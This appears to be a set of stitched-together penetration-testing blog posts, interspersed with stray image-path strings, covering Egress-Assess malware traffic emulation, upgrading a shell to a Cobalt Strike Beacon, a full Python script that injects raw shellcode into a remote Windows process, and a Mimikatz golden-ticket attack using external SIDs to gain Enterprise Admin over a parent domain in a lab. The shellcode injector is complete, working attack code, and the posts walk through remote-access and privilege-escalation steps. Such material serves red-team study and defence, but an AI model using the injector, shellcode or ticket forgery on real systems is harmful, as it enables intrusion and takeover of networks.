This isessentially my first script I’ve developed in powershell, and I certainly expect to have many “learning moments” on more proper methods of developing these same functions in powershell, so please let me know if I’ve developed something improperly.

Finally, I wouldn’t have been able to write this without the work of multiple other people who’s work I referenced throughout the writing of this script.  Matt Graeber, Chris Campbell, Will SchroederEvan PenaJustin Warner, Matt Nelson, and Chris Ross‘s powershell work served as great references for how to write in powershell, and for working with WMI in powershell.  Thanks for all your guys work and ability to release it for others to use and reference.

Egress-Assess Malware Modules

Github Link – https://github.com/ChrisTruncer/Egress-Assess

Steve Borosh (@424f424f) and I have been working on adding a new type of module into Egress-Assess for a month or two now. Currently, Egress-Assess lets you exfiltrate faux or real data over a variety of different protocols on both Linux and Windows systems.  However, Steve had the idea to create malware modules for Egress-Assess, and we started working on it.

A major resource that needs to be called out for really helping to push this idea forward is Raphael Mudge with the Malleable C2 Profiles that he created for use with Beacon.  Props to him for adding anawesome capability forBeacon and helping to push the idea of hacking to get caught forward.

We want to be able to allow users to use Egress-Assess to emulate known malware within any network.  We scoured the internet for various sources where companies have documented different network indicators used to identify malware operating over the network.  After a lot of research, we are happy to merge in the following malware modules into Egress-Assess:

Egress-Assess Supported Malware

  • Zeus
  • Darkhotel
  • etumbot
  • putterpanda

The various malware modules use known/documented C2 domains for the host headers (which are randomly selected from a large list of documented domains).  Additionally, if the malware being emulated is using GET/POST requests for C2 comms (which all currently included are), we are then also emulating themalware’s comms via each malware family’s respective method for communicating (custom uri parameters, post request data, etc.).

Ideally, you should now have the ability to generate network traffic that conforms to the respective malware’s documented methodology for C2 comms (for which we have created a module).  If there are any requests for specific pieces of malware that you would like to see added into Egress-Assess, please get in touch with Steve or myself on twitter, e-mail, or create an Issue on Github and let us know what you would like added in.

Upgrading Your Shells to Beacons

It’s an issue we all encounter, we’re operating in a shell and want to upgrade it to something better. For many, this may be Meterpreter which is absolutely a valid choice. Another option I want to explore in this post is upgrading your shell to a CobaltStrike Beacon.

In this instance, I’m going to cheat by generating a shell callback with Veil-Evasion to simulate operating in a shell and executing it on a VM.

Shell Callback

Now that I have my shell, it’s time to look into upgrading this to something better! First, I’ll need to setup a Beacon listener within Cobalt Strike. This is pretty simple, just select the headphones icon on the top menu and you’ll be presented with the Listener tab. Just select the “Add” button at the bottom and configure your listener as you see fit.

Beacon Listener

Once you’ve created your listener, it’s time to prep for the shell upgrade. I prefer to use Cobalt Strike’s powershell web-delivery feature to upgrade my shell. To set this up, click the powershell icon on the top menu and configure the attack. In this case, I customized the uri to be “upgrade”, I am using the default port 80, and the listener that I want to utilize was pre-selected.Powershell Web Delivery

Now, just select launch, and you’ll be given the command that you can run on your victim machine.

Powershell One Liner

All you need to do now is just copy and paste this command into your shell, and you should see your beacon calling back!

Beacon Callback

If you have any questions, be sure to let me know! Hop in #Veil on Freenode or hit me up on twitter @ChrisTruncer.

Injecting Shellcode into a Remote Process with Python

In order to inject shellcode into a remote process, we’re going to have to interact with the Windows API, and it’s actually going to be fairly simple to do.  To start off, you need to check that you have the permissions to interact with the process that you want to inject shellcode into, and you will also need to know the process ID .  I’ll leave this to you to ensure you can verify and gather this information.Now that we know we have the permissions to interact with the remote process, and the process ID is known, we can begin developing a script that will perform the injection.  First, we need to know the different calls (and understand the reason for calling them) to the Windows API we will need to make.  It’s simple, there’s just four main calls, and they are as follows:

  • OpenProcess – This is called to get a handle into the process we want to inject shellcode into
  • VirtualAllocEx – This is called to allocate memory for the shellcode in the remote process
  • WriteProcessMemory – This writes the shellcode to the allocated memory within the remote process
  • CreateRemoteThread – This creates a thread, and executes the shellcode within the remote process

Ctypes makes it very simple to interact with the Windows API in a Python script, so it will be a required import for this script.  The following is the completed script, and I will go over each part of the script in detail:

from ctypes import *page_rwx_value = 0x40
process_all = 0x1F0FFF
memcommit = 0x00001000kernel32_variable = windll.kernel32
shellcode ="\xbb\xbb\x48\x30\x8d\xdb\xdd\xd9\x74\x24\xf4\x58\x2b\xc9\xb1\x47\x83\xe8\xfc\x31\x58\x0f\x03\x58\xb4\xaa\xc5\x71\x22\xa8\x26\x8a\xb2\xcd\xaf\x6f\x83\xcd\xd4\xe4\xb3\xfd\x9f\xa9\x3f\x75\xcd\x59\xb4\xfb\xda\x6e\x7d\xb1\x3c\x40\x7e\xea\x7d\xc3\xfc\xf1\x51\x23\x3d\x3a\xa4\x22\x7a\x27\x45\x76\xd3\x23\xf8\x67\x50\x79\xc1\x0c\x2a\x6f\x41\xf0\xfa\x8e\x60\xa7\x71\xc9\xa2\x49\x56\x61\xeb\x51\xbb\x4c\xa5\xea\x0f\x3a\x34\x3b\x5e\xc3\x9b\x02\x6f\x36\xe5\x43\x57\xa9\x90\xbd\xa4\x54\xa3\x79\xd7\x82\x26\x9a\x7f\x40\x90\x46\x7e\x85\x47\x0c\x8c\x62\x03\x4a\x90\x75\xc0\xe0\xac\xfe\xe7\x26\x25\x44\xcc\xe2\x6e\x1e\x6d\xb2\xca\xf1\x92\xa4\xb5\xae\x36\xae\x5b\xba\x4a\xed\x33\x0f\x67\x0e\xc3\x07\xf0\x7d\xf1\x88\xaa\xe9\xb9\x41\x75\xed\xbe\x7b\xc1\x61\x41\x84\x32\xab\x85\xd0\x62\xc3\x2c\x59\xe9\x13\xd1\x8c\xbe\x43\x7d\x7f\x7f\x34\x3d\x2f\x17\x5e\xb2\x10\x07\x61\x19\x39\xa2\x9b\xc9\x86\x9b\x9b\x96\x6f\xde\xe3\x89\x8c\x57\x05\xa3\x42\x3e\x9d\x5b\xfa\x1b\x55\xfa\x03\xb6\x13\x3c\x8f\x35\xe3\xf2\x78\x33\xf7\x62\x89\x0e\xa5\x24\x96\xa4\xc0\xc8\x02\x43\x43\x9f\xba\x49\xb2\xd7\x64\xb1\x91\x6c\xac\x27\x5a\x1a\xd1\xa7\x5a\xda\x87\xad\x5a\xb2\x7f\x96\x08\xa7\x7f\x03\x3d\x74\xea\xac\x14\x29\xbd\xc4\x9a\x14\x89\x4a\x64\x73\x0b\xb6\xb3\xbd\x79\xd6\x07"
process_id = 1234
shellcode_length = len(shellcode)

process_handle = kernel32_variable.OpenProcess(process_all, False, process_id)
memory_allocation_variable = kernel32_variable.VirtualAllocEx(process_handle, 0, shellcode_length, memcommit, page_rwx_value)
kernel32_variable.WriteProcessMemory(process_handle, memory_allocation_variable, shellcode, shellcode_length, 0)kernel32_variable.CreateRemoteThread(process_handle, None, 0, memory_allocation_variable, 0, 0, 0)



***Line By Line Description***

from ctypes import * – The ctypes import is required and is what allows us to interact with the Windows API within python.

page_rwx_value – This is a variable that sets the section of memory that will store the shellcode as read, write, and executable.

processall_variable – This variable states that when we try to open a handle into the process we’re injecting into, we want to have “all possible access rights” into the process.

memcommit –  This variable is set to allocate memory and ensure it is zeroed upon writing to memory.

kernel32_variable – This just stores the available calls from windll.kernel32 within a single variable.

Shellcode – This is the shellcode that will be injected into memory and executed

process_id – This is the process ID that the shellcode will be injected into

shellcode_length – This variable stores the length of the shellcode that will be injected and executed

process_handle = kernel32_variable.OpenProcess(process_all, False, process_id)  – This line makes a call to OpenProcess.  The point ofthis line is to return a handle into the process we are injecting shellcode into.  We’re specifically asking for all possible process rights, stating that we don’t need to inherit the handle, and specifying the process ID of the process to obtain a handle from.

memory_allocation_variable = kernel32_variable.VirtualAllocEx(process_handle, 0, shellcode_length, memcommit, page_rwx_value) – This line calls VirtualAllocEx, a function that allocates memory in a remote process.  It requires a handle to the process that will have memory allocated (obtained from the OpenProcess call), the size that should be allocated (shellcode length), the type of memory allocation that should be performed (memcommit), and the memory protection that should be placed on the allocated memory range (read, write, execute).  It returns the base address to the memory that was allocated by the function.

kernel32_variable.WriteProcessMemory(process_handle, memory_allocation_variable, shellcode, shellcode_length, 0) – This line calls WriteProcessMemory which writes data (shellcode) to an area of memory within a process of our choosing.  The function receives the process handle that was obtained, the base address where the function will write memory to, our shellcode, and the length of the shellcode, and the value 0 which tells the function to ignore an optional output.

kernel32_variable.CreateRemoteThread(process_handle, None, 0, memory_allocation_variable, 0, 0, 0) – This calls CreateRemoteThread, which will create a thread (go figure) within the another process.  This function call takes in a handle to the process which the shellcode is being injected into, None – states that the thread inherits a default security descriptor, 0 – defines the stack size to be the default size for that executable, the base address of the memoryallocated earlier, and the final “0”s are miscellaneous parameters that tells the function that we aren’t providing “A pointer to the application-defined function” (source: MSDN), there isn’t a variable passed in, and to execute the thread immediately

From this point on, the shellcode should execute within the targeted process, and you should be set!  If there are any questions, errors, or something that needs to be addressed, let me know!

Golden Tickets and External SIDs – Spread the Compromise

Note: Be sure to check out Sean Metcalf’s (@Pyrotek3) post about this technique available here!  He talked about this at BlackHat USA 2015!

Benjamin Delpy (@gentilkiwi) recently tweeted about adding External SIDs into Mimikatz’s golden tickets which was quickly followed up by Skip Duckwall (@Passingthehash) also tweeting how devastating this addition can be to defenders.  Skip said it best by saying, “Pwning the child can (with default settings) compromise the parent”.  This capability has a fairly significant impact for both attackers and defenders.  If as an attacker I can just target the weakest child domain and leverage that access to compromise the parent domain, my attack path just potentially became significantly easier.  As a defender, I now know that if any child domain is compromised, then the integrity of the forest as a whole is now in jeopardy.

This was something that I really wanted to test myself, so I did just that.  I set up a parent (sonofflynnlab.com) and child (child.sonofflynnlab.com) domain in my home lab with workstations in each respective domain.  I used the default settings when creating the child domain within the parent domain.  There’s a total of four normal user accounts:• test1 and test2 – Members of the parent domain’s (SONOFFLYNNLAB) Domain Users group
  • testc1 and testc2 – Members of the child domain’s (CHILD.SONOFFLYNNLAB) Domain Users group

Once both domains were created and populated with user and computer accounts, I wanted to test the relationship between the two domains.  One of the easiest ways to do this is to use Veil-Powerview, which is part of the Veil-Framework’s Powertools and developed by Will Schroeder (@harmj0y).  I ran Invoke-MapDomainTrusts to view the relationship between the two domains and received the following output:

3 - domaintrustsAs you can see, there’s a bidirectional trust between the child and parent domain.  Now that it looks like I have everything setup the way I would like it to be, it’s time to test creating a golden ticket with an external SID.  To give some context to how I am testing this scenario, I will be running all commands from a workstation within the child domain and will be logged into theworkstation in the context of a user within the child domain.

The first step I will perform is to download Mimikatz onto this workstation and purge all kerberos tickets.

1 - mimikatz krb purgeNow that all tickets have been purged, let’s verify that I cannot access either the child domain’s domain controller’s C$ share, or the parent domain’s domain controller’s C$ share.

2 - cantaccessNext, lets build the golden ticket with the external/parent SID information.  The golden ticket is built with all the same information as a normal golden ticket with the addition of the external SID via the /sids flag.  At this point, I’m going to assume that you have already obtained the krbtgt hash, and domain sid of the child domain.  If you need help finding this information, review this post.  However, the new piece of information that we will need to grab is the SID of the parent domain, and the RID of the group we want to “add” the user to.  One way to obtain this is to utilize PowerView.  I can use the Get-NetLocalGroup command to find the SID of the domain with the following command (since my machine can currently hit the parent domain’s DC):


Once I’ve obtained all the information I need, it’s time to create the golden ticket.

pttchild In this case, you can see I am referencing the 519 group which is the Enterprise Admins group within the external SID.  If you are looking to change the group you wish to “add” yourself into, some default group values are available here. I’m alsousing /ptt to immediately submit the ticket.

Now that my ticket has been submitted, it’s time to open a command prompt with the submitted ticket applied to it.4 - getshellLet’s test our access!

5 - accesstoprimarydcSweet!  My normal domain user account within the child domain now has access to not only the child domain’s domain controller’s C$ share, but I can also access the C$ share on the parent domain’s domain controller since I am essentially running in the context of an Enterprise Admin!

At this point, I can leverage any number of techniques to move into the parent domain.  Needless to say, this is something that I will look foron future assessments.